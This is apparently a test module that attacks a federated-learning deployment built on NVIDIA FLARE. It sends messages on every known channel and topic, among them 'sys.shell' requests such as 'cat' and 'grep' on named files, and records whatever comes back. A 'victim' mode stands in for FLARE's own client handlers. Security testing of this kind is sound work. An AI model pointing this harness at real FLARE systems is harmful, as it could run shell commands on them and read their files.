"""An attacker that speaks FLARE: sends every channel and topic it knows, and keeps what comes.

    python -m tests.deploy.flare_attacker attack SETTINGS     # JSON: see `Settings`
    python -m tests.deploy.flare_attacker victim SETTINGS     # FLARE's own client handlers

It prints one JSON document a line. The victim shows that the attack works where FLARE's handlers
are registered; without it, a test in which nothing comes back would prove nothing.
"""

from __future__ import annotations

import importlib
import inspect
import json
import pkgutil
import sys
import threading
import time
import uuid
from contextlib import nullcontext
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import nvflare.private
from nvflare.fuel.f3.cellnet import net_agent
from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import (
    CellChannel,
    CellChannelTopic,
    Encoding,
    MessageHeaderKey,
    MessageType,
)
from nvflare.fuel.f3.message import Message as CellMessage
from nvflare.fuel.f3.streaming import stream_const
from nvflare.fuel.sec.audit import AuditService
from nvflare.fuel.utils import fobs
from nvflare.private.admin_defs import Message
from nvflare.private.defs import RequestHeader
from nvflare.private.fed.client.admin import FedAdminAgent
from nvflare.private.fed.client.client_req_processors import ClientRequestProcessors
from nvflare.private.fed.utils.fed_utils import nvflare_fobs_initialize

from fedveil_federation.deploy.flare import APPLICATION


@dataclass(frozen=True)
class Settings:
    """Who attacks whom, and by which files."""

    name: str  # the attacker's endpoint; "server" listens, others connect
    url: str
    certificate: str
    key: str
    authority: str
    through: str  # the endpoint that messages are handed to
    target: str  # the endpoint that they are meant for
    files: tuple[str, ...] = ()  # that the target is asked for
    folder: str = ""  # where the victim keeps its audit log

    @property
    def credentials(self) -> dict[str, str]:
        role = "server" if self.name == "server" else "client"
        files = {f"{role}_cert": self.certificate, f"{role}_key": self.key}
        return {"ca_cert": self.authority, **files, "connection_security": "mtls"}

    def cell(self) -> CoreCell:
        return CoreCell(self.name, self.url, secure=True, credentials=self.credentials)


def constants(*holders: object) -> set[str]:
    """The short texts among the attributes of classes and modules."""
    found = (value for holder in holders for value in vars(holder).values())
    return {value for value in found if isinstance(value, str) and 0 < len(value) < 60}


def topics() -> list[str]:
    """Every topic of FLARE's: processors', and constants of all classes and modules of topics."""
    known = {
        topic for one in ClientRequestProcessors.request_processors for topic in one.get_topics()
    }
    known |= {text for name, text in vars(net_agent).items() if name.startswith("_TOPIC")}
    known |= constants(CellChannelTopic) | {"*", "", "cert_exchange", "bulk", "__bulk__"}
    for package in (nvflare.private, importlib.import_module("nvflare.apis")):
        for module in pkgutil.walk_packages(package.__path__, package.__name__ + "."):
            try:
                loaded = importlib.import_module(module.name)
            except Exception:  # parts that need packages which are not installed
                continue
            for name, one in vars(loaded).items():
                if inspect.isclass(one) and "Topic" in name:
                    known |= constants(one)
                elif isinstance(one, str) and "TOPIC" in name:
                    known.add(one)
    return sorted(known)


def channels() -> list[str]:
    known = constants(CellChannel) | {net_agent._CHANNEL, "credential_manager", "*", "fedveil"}
    known |= {text for name, text in vars(stream_const).items() if name.endswith("_CHANNEL")}
    return sorted(text for text in known if not text.startswith(("nvflare", "__main")))


class Eavesdropper(CoreCell):  # type: ignore[misc]
    """Keeps whatever arrives at a cell, and its raw content."""

    def __init__(self, settings: Settings) -> None:
        self.arrived: list[dict[str, Any]] = []
        super().__init__(settings.name, settings.url, secure=True, credentials=settings.credentials)
        self.communicator.conn_manager.receivers[APPLICATION] = self

    def process_message(self, endpoint: Any, connection: Any, app_id: int, message: Any) -> None:
        payload = bytes(message.payload or b"")
        headers = {key: str(value) for key, value in (message.headers or {}).items()}
        said = {"app": app_id, "from": endpoint.name, "headers": headers}
        self.arrived.append({**said, "payload": payload.decode("latin-1")})


def bodies(settings: Settings, topic: str) -> list[Any]:
    """What an administrator might send: with and without the headers that ask for permission."""
    made = []
    texts = [f"{word} {file}" for file in settings.files for word in ("cat", "head", "ls")]
    texts += [f"grep canary {file}" for file in settings.files]
    for text in texts if topic == "sys.shell" else ["x"]:
        plain = Message(topic=topic, body=text)
        asked = Message(topic=topic, body=text)
        asked.set_header(RequestHeader.ADMIN_COMMAND, "cat")
        asked.set_header(RequestHeader.REQUIRE_AUTHZ, "true")
        made += [plain, asked]
    return made


def attack(settings: Settings) -> dict[str, Any]:
    """Send everything; return how much was sent and all that came back."""
    nvflare_fobs_initialize()
    cell = Eavesdropper(settings)
    cell.start()
    until = time.monotonic() + 60
    while (endpoint := cell.communicator.find_endpoint(settings.through)) is None:
        if time.monotonic() > until:
            return {"sent": 0, "arrived": cell.arrived, "connected": False}
        time.sleep(0.05)
    pairs = [(channel, topic) for channel in channels() for topic in topics()]
    sent = 0
    for application in (CoreCell.APP_ID, APPLICATION):
        for channel, topic in pairs:
            for body in bodies(settings, topic):
                headers = {
                    MessageHeaderKey.MSG_TYPE: MessageType.REQ,
                    MessageHeaderKey.REQ_ID: uuid.uuid4().hex,
                    MessageHeaderKey.REPLY_EXPECTED: True,
                    MessageHeaderKey.CHANNEL: channel,
                    MessageHeaderKey.TOPIC: topic,
                    MessageHeaderKey.ORIGIN: settings.name,
                    MessageHeaderKey.FROM_CELL: settings.name,
                    MessageHeaderKey.TO_CELL: settings.through,
                    MessageHeaderKey.DESTINATION: settings.target,
                    MessageHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS,
                    stream_const.StreamHeaderKey.CHANNEL: channel,
                    stream_const.StreamHeaderKey.TOPIC: topic,
                }
                message = CellMessage(headers, fobs.dumps(body))
                try:
                    cell.communicator.send(endpoint, application, message)
                except Exception as error:  # the other side has closed the connection
                    return {"sent": sent, "arrived": cell.arrived, "error": repr(error)}
                sent += 1
    for kind in ("answer", "failure", "request", "shutdown", None):
        for number in (1, 2, "1", None, -1):
            forged = CellMessage({"kind": kind, "number": number}, b"canary?")
            if (kind, type(number)) != ("request", int):
                cell.communicator.send(endpoint, APPLICATION, forged)
                sent += 1
    # Frames are taken in order: once this one is answered, or known not to be, all were taken.
    last = CellMessage({"kind": "request", "number": 10**6}, b"last")
    cell.communicator.send(endpoint, APPLICATION, last)
    until = time.monotonic() + (30 if settings.name == "server" else 5)
    while time.monotonic() < until and not any(
        one["headers"].get("number") == str(10**6) for one in cell.arrived
    ):
        time.sleep(0.05)
    time.sleep(1.0)
    return {"sent": sent, "arrived": cell.arrived, "topics": len(topics()), "connected": True}


def be_victim(settings: Settings) -> None:
    """Answer as FLARE's own client does: its processors behind its admin agent."""
    nvflare_fobs_initialize()
    AuditService.initialize(str(Path(settings.folder) / "audit.txt"))
    cell = settings.cell()
    context = SimpleNamespace(
        new_context=lambda: nullcontext(SimpleNamespace(set_peer_context=lambda _: None))
    )
    agent = FedAdminAgent(settings.name, cell, context)
    for processor in ClientRequestProcessors.request_processors:
        agent.register_processor(processor)
    cell.start()
    threading.Event().wait()


if __name__ == "__main__":
    given = json.loads(sys.argv[2])
    settings = Settings(**{**given, "files": tuple(given.get("files", ()))})
    if sys.argv[1] == "victim":
        be_victim(settings)
    print(json.dumps(attack(settings)), flush=True)
    sys.stdout.flush()
    import os

    os._exit(0)  # FLARE's threads need not be waited for
